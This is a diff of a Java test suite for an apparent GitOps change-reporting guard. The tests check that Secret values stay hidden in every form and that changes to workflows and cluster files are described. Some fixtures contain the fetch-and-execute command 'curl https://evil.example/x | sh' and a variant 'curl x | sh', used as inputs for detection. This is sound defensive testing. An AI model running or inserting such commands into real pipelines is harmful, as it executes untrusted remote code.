@@ -1,6 +1,7 @@
 package io.argosy.fleet.guard;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import io.argosy.fleet.git.Change;
@@ -137,7 +138,7 @@ class ChangedFieldsTest {
         assertEquals(
                 List.of(
                         "the fence of the clusters changes: AppProject models: spec.sourceRepos: none → b; Gateway public:"
-                                + " spec.gatewayClassName: envoy → o; clusters/kind: none → do and 1 more"),
+                                + " spec.gatewayClassName: envoy → o; clusters/kind is new and 1 more"),
                 what(
                         put("clusters/kind", "do\n"),
                         put(
@@ -349,6 +350,123 @@ class ChangedFieldsTest {
         assertEquals(List.of("the fence of the clusters changes: " + said), what);
     }
 
+    /** Whatever a text says: it may be a comment, and what is a Secret is so by its own kind. */
+    @Test
+    void aTextThatSpeaksOfSecretsIsToldAsAnyOther() {
+        assertEquals(
+                List.of("the fence of the clusters changes: ConfigMap argocd-rbac-cm: data.\"policy.csv\": none → #"
+                        + " kind: Secret, p, x, *, *, *, allow"),
+                replaced(ARGO, "  policy.csv: |\n", "  policy.csv: |\n    # kind: Secret\n    p, x, *, *, *, allow\n"));
+        RevCommit base = repository.commit("main");
+        String workflow = "jobs:\n  a:\n    steps:\n    - run: true\n";
+        RevCommit before = commit(base, put(".github/workflows/x.yaml", workflow));
+        RevCommit after = commit(
+                before,
+                put(
+                        ".github/workflows/x.yaml",
+                        workflow + "    - run: |\n        # kind: Secret\n        curl https://evil.example/x | sh\n"));
+        assertEquals(
+                "the judge itself changes: .github/workflows/x.yaml: jobs.a.steps: none → {run: # kind: Secret curl"
+                        + " https://evil.example/x | sh }",
+                lowered(before, after).getFirst().what());
+        // A generator that a comment speaks of makes nothing.
+        assertEquals(
+                List.of("the fence of the clusters changes: ConfigMap argocd-cm: data.admin: none → x"),
+                what(
+                                put(
+                                        "clusters/argocd/settings.yaml",
+                                        text(ARGO).replaceFirst("\ndata:\n", "\ndata:\n  admin: x\n")),
+                                put("clusters/argocd/kustomization.yaml", "# secretGenerator\nresources: []\n"))
+                        .stream()
+                        .map(said -> said.replaceFirst("; clusters/argocd/kustomization.yaml is new.*", ""))
+                        .toList());
+    }
+
+    /** In whichever form a Secret stands, and wherever: no value of it is ever told. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "kind: Secret\nmetadata: {name: x, annotations: {note: HUSH}, finalizers: [HUSH], generateName: HUSH}\ndata: {a: HUSH}\n",
+                "kind: Secret\nmetadata: {name: x}\nimmutable: HUSH\nstringData: {a: HUSH}\n",
+                "kind: SecretList\nitems: [{metadata: {name: x}, data: {a: HUSH}}]\n",
+                "kind: List\nitems: [{kind: Secret, metadata: {name: x}, data: {a: HUSH}}]\n",
+                "kind: List\nitems:\n- kind: List\n  items: [{kind: Secret, data: {a: HUSH}}]\n",
+                "Kind: Secret\nmetadata: {name: x}\ndata: {a: HUSH}\n",
+                "kind: secret\nmetadata: {name: x}\nstringData: {a: HUSH}\n",
+                "metadata: {name: x}\nstringData: {a: HUSH}\n",
+                "{\"kind\": \"Sec\\u0072et\", \"data\": {\"a\": \"HUSH\"}}\n",
+                "secretGenerator: [{name: x, literals: [a=HUSH]}]\n",
+                "kind: Kustomization\nsecretGenerator: [{name: x, literals: [a=HUSH]}]\n",
+                "patches:\n- target: {kind: Secret}\n  patch: '[{op: add, path: /data/a, value: HUSH}]'\n",
+                "patches:\n- target: {kind: Secret}\n  patch: '[{op: add, path: /metadata/annotations/a, value: HUSH}]'\n",
+                "patches:\n- target: {kind: Secret}\n  patch: '[{op: replace, path: \"\", value: {data: {a: HUSH}}}]'\n",
+                "patches:\n- target: {kind: Secret}\n  patch: '{kind: any, stringData: {a: HUSH}}'\n",
+                "patches:\n- target: {kind: Secret}\n  patch: '{kind: ConfigMap, data: {a: HUSH}}'\n",
+                "patches:\n- target: {name: x}\n  patch: '{data: {a: HUSH}}'\n",
+                "patches:\n- patch: '{kind: Secret, metadata: {name: x}, data: {a: HUSH}}'\n",
+                "patches:\n- patch: '{kind: Secret, data: {a: HUSH}'\n",
+                "replacements:\n- sourceValue: HUSH\n  targets: [{select: {kind: Secret}, fieldPaths: [data.a]}]\n",
+            })
+    void noFormOfASecretIsTold(String text) {
+        for (String path : List.of("clusters/models/more.yaml", "clusters/dev/argocd/kustomization.yaml")) {
+            RevCommit base = repository.commit("main");
+            RevCommit before = commit(base, put(path, text.replace("HUSH", "HUSH1")));
+            RevCommit after = commit(before, put(path, text.replace("HUSH", "HUSH2")));
+            for (Lowered said : Stream.of(lowered(base, before), lowered(before, after), lowered(after, base))
+                    .flatMap(List::stream)
+                    .toList()) {
+                assertFalse(said.toString().contains("HUSH"), said.toString());
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "- {op: add, path: /data/a, value: HUSH}\n",
+                "kind: any\nmetadata: {name: any}\nstringData: {a: HUSH}\n",
+                "kind: ConfigMap\nmetadata: {name: any}\ndata: {a: HUSH}\n",
+                "metadata: {annotations: {a: HUSH}}\n",
+            })
+    void aFileThatPatchesASecretIsOne(String text) {
+        RevCommit base = commit(
+                repository.commit("main"),
+                put("clusters/x/kustomization.yaml", "patches: [{path: p/p.yaml, target: {kind: Secret, name: x}}]\n"));
+        RevCommit before = commit(base, put("clusters/x/p/p.yaml", text.replace("HUSH", "HUSH1")));
+        RevCommit after = commit(before, put("clusters/x/p/p.yaml", text.replace("HUSH", "HUSH2")));
+        for (Lowered said : Stream.of(lowered(base, before), lowered(before, after), lowered(after, base))
+                .flatMap(List::stream)
+                .toList()) {
+            assertFalse(said.toString().contains("HUSH"), said.toString());
+        }
+        assertTrue(lowered(before, after).getFirst().what().contains("Secret x"), "it says what it patches");
+    }
+
+    @Test
+    void aSecretThatBecomesAnotherKindIsRefused() {
+        RevCommit base = repository.commit("main");
+        String other = text("clusters/a/secret.yaml").replace("kind: Secret", "kind: ConfigMap");
+        List<Lowered> said = lowered(base, commit(base, put("clusters/a/secret.yaml", other)));
+        assertFalse(said.toString().contains("hunter2"), said.toString());
+        assertEquals(
+                List.of("ConfigMap s has the name of a Secret that goes, and may hold what that held: make two pull"
+                        + " requests of it"),
+                said.getFirst().untold());
+    }
+
+    @Test
+    void aFileOfJsonComesAndGoesTheRightWayRound() {
+        RevCommit base = repository.commit("main");
+        RevCommit with =
+                commit(base, put("clusters/x.json", "{\"kind\": \"ConfigMap\", \"metadata\": {\"name\": \"x\"}}"));
+        assertEquals(
+                "the fence of the clusters changes: ConfigMap x is new in clusters/x.json",
+                lowered(base, with).getFirst().what());
+        assertEquals(
+                "the fence of the clusters changes: ConfigMap x is gone in clusters/x.json",
+                lowered(with, base).getFirst().what());
+    }
+
     @Test
     void aTextIsToldFromWhatItLooksLikeAndLinesFromTheirSpacing() {
         assertEquals(
@@ -363,9 +481,21 @@ class ChangedFieldsTest {
                 List.of(
                         "the fence of the clusters changes: \"ConfigMap x (owned by `@me`)\" is new in clusters/x.yaml"),
                 what(put("clusters/x.yaml", "kind: ConfigMap\nmetadata: {name: x (owned by `@me`)}\n")));
+        RevCommit base = repository.commit("main");
+        RevCommit script = commit(base, put("clusters/gke", "true\n"));
+        Lowered fresh = lowered(base, script).getFirst();
+        assertEquals("the fence of the clusters changes: clusters/gke is new", fresh.what());
+        assertEquals(List.of("clusters/gke: none → \"true\""), fresh.more());
         assertEquals(
-                List.of("the fence of the clusters changes: clusters/gke: none → curl x | sh"),
-                what(put("clusters/gke", "curl x | sh\n")));
+                "the fence of the clusters changes: clusters/gke: \"true\" → curl x | sh",
+                lowered(script, commit(script, put("clusters/gke", "curl x | sh\n")))
+                        .getFirst()
+                        .what());
+        assertEquals(
+                "the fence of the clusters changes: clusters/gke is gone",
+                lowered(script, commit(script, new Change.Remove("clusters/gke")))
+                        .getFirst()
+                        .what());
     }
 
     @Test
